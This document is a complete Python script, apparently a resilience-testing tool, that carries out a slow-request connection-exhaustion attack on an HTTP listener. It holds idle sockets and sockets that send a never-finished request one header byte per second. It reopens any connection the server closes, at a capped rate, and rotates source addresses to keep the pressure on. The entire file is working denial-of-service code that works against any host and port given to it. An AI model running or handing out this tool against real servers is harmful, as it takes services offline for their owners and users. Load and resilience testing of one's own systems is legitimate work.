#!/usr/bin/env python3
"""Holds many connections open against an HTTP listener, as an attacker with no credentials would.

  http-flood.py HOST PORT --idle N --trickle M --seconds S [--source ADDR ...] [--rate R]

--idle connections send nothing; --trickle connections send the start of a request and then one header
byte per second, never finishing it. A connection the server closes is counted and opened again (at most
--rate new connections per second in all), so the pressure stays on for --seconds. Sources (--source,
e.g. 127.0.0.2 on loopback) are used in turn. One process can hold about as many sockets as its own
`ulimit -n`: run several for more. Prints a line per second and a JSON summary at the end.
"""
import argparse
import errno
import json
import selectors
import socket
import sys
import time

REQUEST_START = b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-Trickle: "


def main():
    p = argparse.ArgumentParser()
    p.add_argument("host")
    p.add_argument("port", type=int)
    p.add_argument("--idle", type=int, default=0)
    p.add_argument("--trickle", type=int, default=0)
    p.add_argument("--seconds", type=float, default=30)
    p.add_argument("--source", action="append", default=[])
    p.add_argument("--rate", type=int, default=2000, help="new connections per second, at most")
    a = p.parse_args()

    sel = selectors.DefaultSelector()
    wanted = ["idle"] * a.idle + ["trickle"] * a.trickle
    pending = list(range(len(wanted)))  # slots waiting for a connection
    socks = {}  # slot -> socket
    started = set()  # trickle slots whose request line and first header went out
    stats = {"connects": 0, "connect_errors": 0, "closed_by_server": 0, "held_max": 0}
    sources = a.source or [None]
    next_source = 0
    start = time.monotonic()
    last_print = start
    last_trickle = start
    budget = 0.0
    last_budget = start

    def close(slot, by_server):
        s = socks.pop(slot)
        started.discard(slot)
        try:
            sel.unregister(s)
        except (KeyError, ValueError):
            pass
        s.close()
        if by_server:
            stats["closed_by_server"] += 1
        pending.append(slot)

    while True:
        now = time.monotonic()
        if now - start >= a.seconds:
            break
        budget = min(a.rate, budget + (now - last_budget) * a.rate)
        last_budget = now
        while pending and budget >= 1:
            slot = pending.pop()
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.setblocking(False)
            src = sources[next_source % len(sources)]
            next_source += 1
            try:
                if src:
                    s.bind((src, 0))
                err = s.connect_ex((a.host, a.port))
            except OSError as e:
                err = e.errno
            budget -= 1
            if err not in (0, errno.EINPROGRESS):
                stats["connect_errors"] += 1
                s.close()
                pending.append(slot)
                break
            stats["connects"] += 1
            socks[slot] = s
            sel.register(s, selectors.EVENT_READ, slot)
        for key, _ in sel.select(timeout=0.05):
            slot = key.data
            try:
                data = key.fileobj.recv(4096)
            except BlockingIOError:
                continue
            except ConnectionRefusedError:
                stats["connect_errors"] += 1
                close(slot, False)
                continue
            except OSError:
                data = b""
            if not data:
                close(slot, True)
        if now - last_trickle >= 1:
            last_trickle = now
            for slot, s in list(socks.items()):
                if wanted[slot] == "trickle":
                    try:
                        if slot in started:
                            s.send(b"a")
                        else:
                            s.send(REQUEST_START)  # once connected: a request that never ends
                            started.add(slot)
                    except BlockingIOError:
                        pass
                    except OSError:
                        close(slot, True)
        stats["held_max"] = max(stats["held_max"], len(socks))
        if now - last_print >= 1:
            last_print = now
            print(f"t={now - start:5.1f}s open={len(socks)} connects={stats['connects']} "
                  f"closed_by_server={stats['closed_by_server']} connect_errors={stats['connect_errors']}",
                  flush=True)
    stats["open_at_end"] = len(socks)
    print(json.dumps(stats), flush=True)
    for s in socks.values():
        s.close()


if __name__ == "__main__":
    sys.exit(main())
